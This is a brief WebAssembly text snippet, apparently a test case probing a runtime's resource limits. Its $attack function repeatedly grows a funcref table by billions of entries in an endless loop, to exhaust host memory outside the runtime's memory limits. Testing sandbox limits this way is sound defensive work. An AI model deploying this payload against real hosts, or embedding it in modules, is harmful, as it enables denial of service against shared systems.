;; Grows a table by four thousand million entries: 32 GB, which no limit of memory is about.
(table $t 1 funcref)
(func $attack (param $req i32) (param $len i32) (result i64)
  (if (i32.ne (table.grow $t (ref.null func) (i32.const 4000000000)) (i32.const -1)) (then (unreachable)))
  (loop $again
    (drop (table.grow $t (ref.null func) (i32.const 60000)))
    (drop (table.grow $t (ref.null func) (i32.const 4000000000)))
    (br $again))
  (unreachable))
